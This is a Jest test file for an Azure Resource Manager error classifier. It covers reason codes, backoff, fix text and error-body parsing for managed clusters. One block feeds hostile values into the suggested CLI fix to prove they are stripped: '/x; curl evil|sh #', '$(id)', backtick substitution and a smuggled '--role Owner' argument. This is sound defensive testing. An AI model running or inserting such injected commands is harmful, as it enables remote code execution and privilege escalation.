import { describe, expect, it } from '@jest/globals';
import { classifyFailure, FAILURES } from '../../src/azure/failures.ts';
import { readErrorBody } from '../../src/azure/error-body.ts';
import { CORPUS } from '../corpus.ts';
import { ANSWERS, CLUSTER, type AnswerRow } from './arm-answers.ts';

/** The row of FAILURES that decides, found the way classifyFailure finds it. */
function rowFor({ answer, call }: AnswerRow): string | undefined {
  return FAILURES.find(({ matches }) => matches(answer, answer.code.toLowerCase(), call, CLUSTER))?.name;
}

describe('what becomes of an answer of ARM', () => {
  it.each(ANSWERS)('$what: $reason', (row) => {
    const failure = classifyFailure(row.answer, row.call, CLUSTER);
    expect(failure).toMatchObject({
      ...row.answer,
      reason: row.reason,
      stalled: row.stalled ?? false,
      backoff: { fromMs: row.backoff[0], toMs: row.backoff[1] },
      refused: row.ambiguous !== true,
    });
    expect(failure.quiet).toBe(row.quiet);
    for (const words of row.fix) expect(failure.fix).toContain(words);
    for (const words of row.never) expect(failure.fix).not.toContain(words);
    expect(failure.fix === '').toBe(row.fix.length === 0);
  });

  it.each(ANSWERS)('$what: the same in any spelling of the code', (row) => {
    const expected = classifyFailure(row.answer, row.call, CLUSTER);
    for (const code of [row.answer.code.toUpperCase(), row.answer.code.toLowerCase()]) {
      expect(classifyFailure({ ...row.answer, code }, row.call, CLUSTER)).toEqual({ ...expected, code });
    }
  });

  it.each(ANSWERS)('$what: decided by the row meant for it', (row) => {
    expect(rowFor(row)).toBe(row.row);
  });

  it('has an example here for every row of the table', () => {
    const seen = new Set(ANSWERS.map(rowFor));
    expect(FAILURES.map(({ name }) => name).filter((name) => !seen.has(name))).toEqual([]);
  });

  it('has an outcome here for every error of the corpus', () => {
    const seen = new Set(ANSWERS.map(({ what }) => what));
    expect(CORPUS.errors.map(({ id }) => id).filter((id) => !seen.has(id))).toEqual([]);
  });

  it('never takes a lost or half-known write for a refused one', () => {
    for (let status = 500; status < 600; status++) {
      for (const code of ['OperationNotAllowed', 'ScopeLocked', 'EtagMismatch', 'AuthorizationFailed', 'Whatever']) {
        expect(classifyFailure({ status, code, message: 'x' }, 'PutManagedCluster').refused).toBe(false);
      }
    }
  });

  it('blames the certificates only for a refused write', () => {
    const answer = { status: 400, code: 'BadRequest', message: 'customCATrustCertificates is unknown' };
    expect(classifyFailure(answer, 'PutManagedCluster').reason).toBe('CertificateRejected');
    expect(classifyFailure(answer, 'GetManagedCluster').reason).toBe('Unreachable');
    expect(classifyFailure({ ...answer, status: 409 }, 'PutManagedCluster').reason).toBe('UpdateFailed');
  });

  it.each([
    ['prod-weu', 'rg', 'ClusterNotFound'],
    ['PROD-WEU', 'RG', 'ClusterNotFound'],
    ['prod-weu', 'another', 'Unreachable'],
    ['another', 'rg', 'Unreachable'],
  ])('calls the cluster gone only where ARM misses it in its own group: %s in %s', (name, group, reason) => {
    const message = `The Resource 'Microsoft.ContainerService/managedClusters/${name}' under resource group '${group}' was not found.`;
    const answer = { status: 404, code: 'ResourceNotFound', message };
    expect(classifyFailure(answer, 'GetManagedCluster', CLUSTER).reason).toBe(reason);
  });

  it('keeps the Retry-After of an answer that is not about throttling', () => {
    const answer = { status: 409, code: 'Conflict', message: 'x', retryAfterMs: 7000 };
    expect(classifyFailure(answer, 'PutManagedCluster').retryAfterMs).toBe(7000);
  });
});

describe('messages that are not in the corpus', () => {
  it.each([
    ['OperationNotAllowed', 'Operation is not allowed: a scale operation of pool apps is still running.'],
    ['OperationNotAllowed', 'The managed cluster is being rotated, please try again later.'],
    ['OperationNotAllowed', 'Please wait until the current reconcile completes.'],
    ['Conflict', 'The request conflicts with an ongoing upgrade.'],
    ['Conflict', 'Another client is modifying the managed cluster.'],
    ['ConcurrentUpdateError', 'Try again.'],
    ['AnyCode', 'Managed cluster is in provisioning state Upgrading.'],
    ['AnyCode', "Managed cluster is in provisioning state 'Upgrading'."],
    ['ConflictingOperationInProgress', ''],
  ])('%s: "%s" is another operation that runs', (code, message) => {
    const failure = classifyFailure({ status: 409, code, message }, 'PutManagedCluster');
    expect(failure).toMatchObject({ reason: 'ClusterBusy', stalled: false, refused: true });
  });

  it.each([
    ['Conflict', "The group 'another operation in progress' does not like it.", false],
    ['Conflict', 'No.', false],
    ['Conflict', 'The value conflicts with one that is there.', false],
    ['OperationNotAllowed', 'Downgrading is not allowed.', true],
    ['OperationNotAllowed', 'Exceeding approved Cores quota.', true],
  ])('%s: "%s" is a refusal, and an hour of waiting only where the message is known', (code, message, stalled) => {
    const failure = classifyFailure({ status: 409, code, message }, 'PutManagedCluster');
    expect(failure).toMatchObject({ reason: 'UpdateFailed', stalled, refused: true });
    expect(failure.backoff.fromMs).toBe(stalled ? 3_600_000 : 60_000);
  });

  it.each([
    'customCATrustCertificates[1] is not valid',
    'securityProfile.CustomCaTrustCertificates: bad',
    'one of the custom CA trust certificates cannot be parsed',
    'the custom CA certificate at index 3 is no certificate',
    'custom_ca_trust_certificates',
  ])('"%s" is about the certificates', (words) => {
    for (const answer of [
      { message: words },
      { message: 'invalid', target: words },
      { message: 'invalid', details: words },
    ])
      expect(classifyFailure({ status: 400, code: 'InvalidParameter', ...answer }, 'PutManagedCluster').reason).toBe(
        'CertificateRejected',
      );
  });
});

describe('a fix that people copy', () => {
  const hostile = '/x; curl evil|sh #';
  const sayNo = (action: string, scope: string, resourceId?: string) =>
    classifyFailure(
      {
        status: 403,
        code: 'AuthorizationFailed',
        message: `The client 'x' does not have authorization to perform action '${action}' over scope '${scope}' or the scope is invalid.`,
      },
      'PutManagedCluster',
      resourceId,
    ).fix;

  it('has our own id of the cluster as its scope, for any name in the answer', () => {
    expect(sayNo('A.B/c/write', hostile, CLUSTER)).toContain(`--scope ${CLUSTER}.`);
    // A role over all of a subscription is not what the controller needs.
    expect(sayNo('A.B/c/write', '/subscriptions/8ecadfc9', CLUSTER)).toContain(`--scope ${CLUSTER}.`);
    const inBrackets = CLUSTER.replace('/rg/', '/rg-(old)/');
    expect(sayNo('A.B/c/write', hostile, inBrackets)).toContain(`--scope '${inBrackets}'.`);
  });

  it.each([hostile, '$(id)', '/x" --role Owner "', '/a b', '/`id`', '--assignee'])('never has %s', (text) => {
    expect(sayNo('A.B/c/write', text)).toContain('--scope <resource id of the cluster>.');
    expect(sayNo(text, '/x')).toContain('Grant Microsoft.ContainerService/managedClusters/read and /write to');
    expect(sayNo('A.B/c/write', '/x', text)).toContain('--scope /x.');
    expect(sayNo(`A.B/c/write ${text}`, '/x')).toContain('Grant Microsoft.ContainerService/managedClusters/read and');
    const linked = classifyFailure(
      {
        status: 403,
        code: 'LinkedAuthorizationFailed',
        message: `it does not have permission to perform action '${text}' on the linked scope(s) '${text}' or`,
      },
      'PutManagedCluster',
    );
    expect(linked.fix).not.toContain(text);
  });
});

describe('messages that are meant to keep us busy', () => {
  const CODES = ['X', 'AuthorizationFailed', 'LinkedAuthorizationFailed', 'ResourceNotFound', 'ScopeLocked'];

  it.each([
    "'",
    'a ',
    'another ',
    'operation ',
    'conflict a ',
    'certificate ',
    'subnet ',
    'does not have ',
    'wait for a ',
    "'/a', ",
    "perform action(s) '",
    'provisioning state ',
    "deny assignment with name '",
  ])('are read in no time: %j again and again', (piece) => {
    const text = piece.repeat(12_000 / piece.length);
    const before = process.cpuUsage();
    for (const code of [...CODES, 'DenyAssignmentAuthorizationFailed'])
      for (const status of [400, 403, 404, 409])
        classifyFailure({ status, code, message: text.slice(0, 2048), details: text }, 'PutManagedCluster', text);
    expect(process.cpuUsage(before).user / 24).toBeLessThan(20_000);
  });
});

describe('the body of an error', () => {
  it.each(CORPUS.errors)('$id: read wrapped and bare', ({ status, body }) => {
    const error = (body as { error?: object }).error ?? body;
    expect(readErrorBody(status, JSON.stringify({ error }))).toEqual(readErrorBody(status, JSON.stringify(error)));
  });

  it('says what its details and its target add, once', () => {
    const inner = { code: 'B', target: 't', message: 'a third', details: null };
    const details = [
      { code: 'A', message: 'the first' },
      { code: 'A', message: 'a second', details: [inner] },
      7,
      null,
    ];
    const error = { code: 'Bad', message: 'It is the first.', target: 'properties.x', details };
    expect(readErrorBody(400, JSON.stringify({ error }))).toEqual({
      code: 'Bad',
      message: 'It is the first. (A: a second; B: a third; target: properties.x)',
      target: 'properties.x',
      details: 'A  the first; A  a second; B t a third',
    });
  });

  it('is read where it was put into a message as text, also twice', () => {
    const inner = { status: 'Failed', error: { code: 'Inner', message: 'no room', details: [{ code: 'Innermost' }] } };
    const pack = (error: object) => JSON.stringify(error, undefined, 2).replaceAll('\n', '\r\n');
    const once = { code: 'Conflict', message: pack(inner) };
    const twice = {
      code: 'DeploymentFailed',
      message: 'At least one failed.',
      details: [{ code: 'Conflict', message: pack(once) }],
    };
    expect(readErrorBody(409, JSON.stringify({ error: once }))).toEqual({
      code: 'Conflict',
      message: 'Inner: no room; Innermost',
      details: 'Inner  no room; Innermost',
    });
    expect(readErrorBody(409, JSON.stringify(twice)).message).toBe(
      'At least one failed. (Conflict; Inner: no room; Innermost)',
    );
    expect(readErrorBody(409, JSON.stringify({ code: 'A', message: '{"operationGroup":"G"}' })).message).toBe(
      '{"operationGroup":"G"}',
    );
  });

  it('may be written with capitals, and have one detail that is in no list', () => {
    expect(readErrorBody(409, '{"Code":"Conflict","Message":"No.","details":{"code":"Inner","message":"m"}}')).toEqual({
      code: 'Conflict',
      message: 'No. (Inner: m)',
      details: 'Inner  m',
    });
  });

  it('names the policy that refused it, escaped and short', () => {
    const policy = (info: object) =>
      readErrorBody(403, JSON.stringify({ code: 'A', message: 'm', additionalInfo: [7, { type: 'X', info }] })).policy;
    expect(policy({ policyAssignmentName: 'a', policyAssignmentDisplayName: 'A\u202e' })).toBe('A\\u{202e}');
    expect(policy({ policyAssignmentName: 'a' })).toBe('a');
    expect(policy({ policyAssignmentName: 7 })).toBeUndefined();
    expect(policy({ policyAssignmentDisplayName: 'a'.repeat(1000) })).toHaveLength(128);
  });

  it('is bounded, however deep, long and wide it is', () => {
    const deep = '{"code":"A","message":"m","details":['.repeat(5000) + ']}'.repeat(5000);
    const wide = JSON.stringify({ code: 'A', message: 'm', details: Array(5000).fill({ message: 'x'.repeat(20) }) });
    const long = JSON.stringify({ code: 'A', message: 'm'.repeat(1_000_000) });
    const packed = Array.from({ length: 12 }).reduce<object>(
      (error) => ({ code: 'A', message: JSON.stringify(error) }),
      { code: 'A', message: 'm' },
    );
    for (const text of [deep, wide, long, '{"a":'.repeat(100_000), JSON.stringify(packed)])
      expect(JSON.stringify(readErrorBody(400, text)).length).toBeLessThan(20_000);
  });

  it('lists the api-versions of a message that is too long to be kept', () => {
    const versions = Array.from(
      { length: 200 },
      (_, i) => `20${String(10 + (i % 16))}-01-${String(10 + (i % 18))}-preview`,
    );
    const message = `The supported api-versions are '${versions.join(', ')}, 2026-01-01'.`;
    const read = readErrorBody(400, JSON.stringify({ error: { code: 'NoRegisteredProviderFound', message } }));
    expect(read.message.length).toBeLessThanOrEqual(2048);
    expect(read.supportedVersions?.at(-1)).toBe('2026-01-01');
    expect(classifyFailure({ status: 400, ...read }, 'GetManagedCluster').fix).toContain('2026-01-01');
  });

  it('may come without a message', () => {
    expect(readErrorBody(404, '{"code":"NotFound"}')).toEqual({ code: 'NotFound', message: '' });
    expect(readErrorBody(404, '{"error":{"code":"NotFound","message":7}}')).toEqual({ code: 'NotFound', message: '' });
  });

  it.each([
    ['<!DOCTYPE html><title>Proxy</title>', 'HTTP 502 with an HTML or XML page'],
    ['\r\n  <?xml version="1.0"?><Error/>', 'HTTP 502 with an HTML or XML page'],
    ['', 'HTTP 502 with an empty body'],
    [' \n', 'HTTP 502 with an empty body'],
    ['{"error":{"code":"Oper', 'HTTP 502 with a body without an error code'],
    ['Bad gateway', 'HTTP 502 with a body without an error code'],
    ['null', 'HTTP 502 with a body without an error code'],
    ['[]', 'HTTP 502 with a body without an error code'],
    ['"OperationNotAllowed"', 'HTTP 502 with a body without an error code'],
    ['{"error":"invalid_client"}', 'HTTP 502 with a body without an error code'],
    ['{"error":{"code":500,"message":"x"}}', 'HTTP 502 with a body without an error code'],
    ['{"error":{"code":"","message":"x"}}', 'HTTP 502 with a body without an error code'],
  ])('that reads %j is named, not believed', (text, message) => {
    expect(readErrorBody(502, text)).toEqual({ code: 'HTTP502', message });
  });
});
